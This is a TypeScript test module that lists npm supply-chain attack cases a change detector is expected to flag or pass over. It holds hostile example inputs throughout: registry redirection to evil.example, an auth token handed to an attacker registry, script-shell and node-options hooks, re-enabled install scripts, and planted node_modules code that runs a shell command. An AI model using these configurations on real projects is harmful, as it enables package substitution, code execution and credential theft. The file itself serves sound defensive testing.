import { APP, PNPM_LOCK } from "./app.ts";
import type { Attack, AttackClass } from "./attack.ts";
import { hashOf, lockWith, manifestWith, WITH_SCRIPT } from "./npm-app.ts";

const LOCK = "package-lock.json";
const WORKFLOW = ".github/workflows/release.yml";
const EVIL = lockWith({ "node_modules/evil": WITH_SCRIPT });
const NPM_12 = { devEngines: { packageManager: { name: "npm", version: ">=12" } } };

const ALL_VERSIONS = "npm 10.9, 11.21 and 12.2";

/** A line of the project's `.npmrc` that must never pass unseen. */
function setting(name: string, line: string, real: string): Attack {
  return { name, change: { ".npmrc": `${line}\n` }, expect: "loud", at: ".npmrc", real };
}

function workflow(install: string): string {
  return APP[WORKFLOW].replace("- run: npm ci", install);
}

export const INSTALL_POLICY: AttackClass = {
  name: "install policy",
  decides:
    "npm reads `.npmrc` of the installed folder as ini, variables and flags of the command go before it, and only what an older npm refuses to go by proves that a newer one is used.",
  attacks: [
    {
      name: "takes nothing below a section for a setting",
      change: { ".npmrc": "[x]\nignore-scripts=true\n", [LOCK]: EVIL },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 run the script, and warn of a setting `x`.",
    },
    {
      name: "takes engines for the warning that it is",
      change: { "package.json": manifestWith({ engines: { npm: ">=12" } }), [LOCK]: EVIL },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 warn (EBADENGINE), and run the script.",
    },
    {
      name: "takes packageManager for nothing that npm reads",
      change: { "package.json": manifestWith({ packageManager: "npm@12.2.0" }), [LOCK]: EVIL },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 install and run the script; only corepack reads the field, where somebody turned it on.",
    },
    {
      name: "takes devEngines for nothing where they only warn",
      change: {
        "package.json": manifestWith({
          devEngines: { packageManager: { name: "npm", version: ">=12", onFail: "warn" } },
        }),
        [LOCK]: EVIL,
      },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 warn and run the script; without `onFail` they refuse (EBADDEVENGINES).",
    },
    {
      name: "believes no setting that comes with the script that it stops",
      change: { ".npmrc": "ignore-scripts=true\n", [LOCK]: EVIL },
      expect: "loud",
      at: LOCK,
      real: `${ALL_VERSIONS} run nothing with it, and a flag, a variable or the next change undoes it.`,
    },
    {
      name: "believes no newer npm that comes with the script that it stops",
      change: { "package.json": manifestWith(NPM_12), [LOCK]: EVIL },
      expect: "loud",
      at: LOCK,
      real: "npm 9 doesn't read devEngines and ran the script; with `--force` npm 10 and 11 did too.",
    },
    {
      name: "hears scripts that are turned on again",
      base: { ".npmrc": "ignore-scripts=true\n", [LOCK]: EVIL },
      change: { ".npmrc": "" },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 run the script.",
    },
    {
      name: "hears a later line that turns scripts on again",
      base: { ".npmrc": "ignore-scripts=true\n" },
      change: { ".npmrc": "ignore-scripts=true\nignore-scripts=false\n" },
      expect: "loud",
      at: ".npmrc",
      real: `Of two lines the last counts to ${ALL_VERSIONS}.`,
    },
    {
      name: "hears scripts turned on where the lockfile isn't npm's",
      base: { ".npmrc": "ignore-scripts=true\n", [LOCK]: null, "pnpm-lock.yaml": PNPM_LOCK },
      change: { ".npmrc": null },
      expect: "loud",
      real: "pnpm reads the same file.",
    },
    {
      name: "hears an approval",
      base: { "package.json": manifestWith(NPM_12), [LOCK]: EVIL },
      change: { "package.json": manifestWith({ ...NPM_12, allowScripts: { evil: true } }) },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 12 runs the script, by the name, an exact version or several between `||`.",
    },
    {
      name: "hears an approval of what isn't there yet",
      change: { "package.json": manifestWith({ allowScripts: { later: true } }) },
      expect: "loud",
      at: "package.json",
      real: "npm 12 runs the script of whatever goes by that name from then on.",
    },
    {
      name: "hears a flag that turns scripts on again",
      base: { ".npmrc": "ignore-scripts=true\n" },
      change: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts=false") },
      expect: "loud",
      at: WORKFLOW,
      real: `A flag goes before the file, \`--no-ignore-scripts\` too: ${ALL_VERSIONS}.`,
    },
    {
      name: "hears a variable that turns scripts on again",
      base: { ".npmrc": "ignore-scripts=true\n" },
      change: {
        [WORKFLOW]: workflow('- run: npm ci\n        env:\n          NPM_CONFIG_IGNORE_SCRIPTS: "false"'),
      },
      expect: "loud",
      at: WORKFLOW,
      real: `Variables go before the file, in capitals, small letters and with dashes: ${ALL_VERSIONS}.`,
    },
    {
      name: "hears a flag that goes",
      base: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts") },
      change: { [WORKFLOW]: workflow("- run: npm ci") },
      expect: "loud",
      real: "npm 10 and 11 run every script of the lockfile.",
    },
    {
      name: "hears a registry that a flag names",
      change: { [WORKFLOW]: workflow("- run: npm ci --registry https://evil.example/") },
      expect: "loud",
      at: WORKFLOW,
      real: `${ALL_VERSIONS} ask it for all that the lockfile has from npm's own.`,
    },
    {
      name: "hears a variable that is set for all that comes after",
      change: {
        [WORKFLOW]: workflow(
          "- run: echo npm_config_registry=https://evil.example/ >> $GITHUB_ENV\n      - run: npm ci",
        ),
      },
      expect: "loud",
      at: WORKFLOW,
      real: "GitHub's runners give it to every later step. Not tried.",
    },
    {
      name: "hears a package manager that comes from an address",
      change: { "package.json": manifestWith({ packageManager: "npm@https://evil.example/npm.tgz" }) },
      expect: "loud",
      at: "package.json",
      real: "corepack takes addresses where it is turned on; npm doesn't read the field. Not tried.",
    },
    {
      name: "hears a script that sets npm's registry",
      change: {
        [WORKFLOW]: workflow("- run: npm config set registry https://evil.example/\n      - run: npm ci"),
      },
      expect: "loud",
      at: WORKFLOW,
      real: `${ALL_VERSIONS} write it into the settings of whoever runs.`,
    },
    {
      name: "hears a script that writes an .npmrc",
      change: {
        [WORKFLOW]: workflow(
          "- run: |\n          echo 'registry=https://evil.example/' > .npmrc\n          npm ci",
        ),
      },
      expect: "loud",
      at: WORKFLOW,
      real: `${ALL_VERSIONS} read what lies there when they run.`,
    },
    setting("hears a registry", "registry=https://evil.example/", `${ALL_VERSIONS} fetch all from there.`),
    setting(
      "hears a registry of a scope",
      "@tauri-apps:registry=https://evil.example/",
      `${ALL_VERSIONS} fetch that scope from there.`,
    ),
    setting(
      "hears a registry in quotes",
      '"registry" = "https://evil.example/"',
      "`ini` takes quotes off keys and values.",
    ),
    setting(
      "hears a setting whose name is a variable",
      `\${NAME}=true`,
      "npm 10 puts variables into names too.",
    ),
    setting(
      "hears a shell for scripts",
      "script-shell=./shell",
      `${ALL_VERSIONS} start every script with it.`,
    ),
    setting(
      "hears options for Node",
      "node-options=--require ./hook.js",
      `${ALL_VERSIONS} hand them to every script.`,
    ),
    setting("hears another git", "git=./git", `${ALL_VERSIONS} clone with it.`),
    setting(
      "hears certificates that aren't checked",
      "strict-ssl=false",
      `${ALL_VERSIONS} take any server for the registry.`,
    ),
    setting(
      "hears a lockfile that is ignored",
      "package-lock=false",
      `\`npm install\` of ${ALL_VERSIONS} resolves anew.`,
    ),
    setting(
      "hears all scripts approved",
      "dangerously-allow-all-scripts=true",
      "npm 12 runs all scripts, refused ones too.",
    ),
    setting(
      "hears settings that lie elsewhere",
      "globalconfig=./other",
      "npm 10 and 11 read the file that it names; of `userconfig` they take no notice.",
    ),
    {
      name: "hears a file that npm runs to change packages",
      change: { ".npm-extension.cjs": "module.exports = { transformManifest: (manifest) => manifest };\n" },
      expect: "loud",
      at: ".npm-extension.cjs",
      real: "`npm install` of npm 12 ran it; npm 11 and `npm ci` don't.",
    },
    {
      name: "hears what a package newly asks for by the project's word",
      change: {
        "package.json": manifestWith({ packageExtensions: { "left@1": { dependencies: { evil: "*" } } } }),
      },
      expect: "loud",
      at: "package.json",
      real: "npm 12 asked the registry for `evil`, by `npm ci` too.",
    },
    {
      name: "hears packages that lie in the repository as installed",
      change: {
        "node_modules/.package-lock.json": lockWith({}),
        "node_modules/left/index.js": "require('child_process').exec('touch pwned');\n",
      },
      expect: "loud",
      at: "node_modules/.package-lock.json",
      real: "`npm install` of npm 10, 11 and 12 left them there and ran them; `npm ci` takes them away.",
    },
    {
      name: "hears a package that lies in the repository as installed, with the locked hash",
      change: {
        "node_modules/left/package.json": JSON.stringify({
          name: "left",
          version: "1.0.0",
          _integrity: hashOf("A"),
        }),
      },
      expect: "loud",
      at: "node_modules",
      real: "`npm install` of npm 11.19: up to date, and the package stays as it is. `npm ci` takes it away.",
    },
    {
      name: "hears a command that lies in the repository as installed",
      change: { "node_modules/.bin/vite": "#!/bin/sh\ntouch pwned\n" },
      expect: "loud",
      at: "node_modules",
      real: "`npm install` of npm 11.19 left it there; `npm run` finds it first.",
    },
    {
      name: "says nothing of packages in the repository that stay, nor of other folders of the name",
      base: { "node_modules/left/package.json": "{}" },
      change: { "docs/node_modules/x/package.json": "{}", "README.md": "node_modules/left\n" },
      expect: "silent",
      real: "Nothing of it is new to `npm install`.",
    },
    {
      name: "says nothing of settings that decide nothing",
      change: {
        ".npmrc":
          "; how we work\nsave-exact=true\nfund=false\naudit=false\nlegacy-peer-deps=true\nauto-install-peers=true\nshamefully-hoist=true\npublic-hoist-pattern[]=*types*\n",
      },
      expect: "silent",
      real: "They decide what is printed, saved or laid where.",
    },
    setting(
      "hears credentials for another registry",
      `//npm.evil.example/:_authToken=\${NPM_TOKEN}`,
      `${ALL_VERSIONS} hand the token to that registry.`,
    ),
    setting(
      "hears a program that tells credentials",
      "//registry.npmjs.org/:tokenHelper=/usr/bin/x",
      "pnpm runs it. Not tried.",
    ),
    {
      name: "says nothing of credentials for npm's own registry",
      change: { ".npmrc": `//registry.npmjs.org/:_authToken=\${NPM_TOKEN}\n` },
      expect: "silent",
      real: `${ALL_VERSIONS} ask the same registry for the same archives, by another name.`,
    },
    {
      name: "says nothing of the registry that is the default",
      change: { ".npmrc": "registry=https://registry.npmjs.org/\n" },
      expect: "silent",
      real: "It is what npm asks anyway.",
    },
    {
      name: "says nothing of settings that let less happen",
      change: { ".npmrc": "ignore-scripts=true\nengine-strict=true\nstrict-ssl=true\nmin-release-age=7\n" },
      expect: "silent",
      real: `${ALL_VERSIONS} run and take less.`,
    },
    {
      name: "says nothing of an approval that is taken back",
      base: { "package.json": manifestWith({ ...NPM_12, allowScripts: { evil: true } }), [LOCK]: EVIL },
      change: { "package.json": manifestWith({ ...NPM_12, allowScripts: { evil: false } }) },
      expect: "silent",
      real: "npm 12 blocks the script.",
    },
    {
      name: "says nothing of settings in another order, with comments",
      base: { ".npmrc": "registry=https://npm.example.com/\nignore-scripts=true\n" },
      change: {
        ".npmrc": "# ours\nignore-scripts = true\n\n; the mirror\nregistry = https://npm.example.com/\n",
      },
      expect: "silent",
      real: `The same settings to ${ALL_VERSIONS}.`,
    },
    {
      name: "says nothing of one more workflow that installs as the others do",
      change: { ".github/workflows/check.yml": APP[WORKFLOW].replace("name: release", "name: check") },
      expect: "silent",
      real: "It runs what the first one runs.",
    },
    {
      name: "says nothing of a packageManager that moves on",
      base: { "package.json": manifestWith({ packageManager: "npm@11.0.0" }) },
      change: { "package.json": manifestWith({ packageManager: "npm@11.6.0" }) },
      expect: "silent",
      real: "npm doesn't read it.",
    },
  ],
};
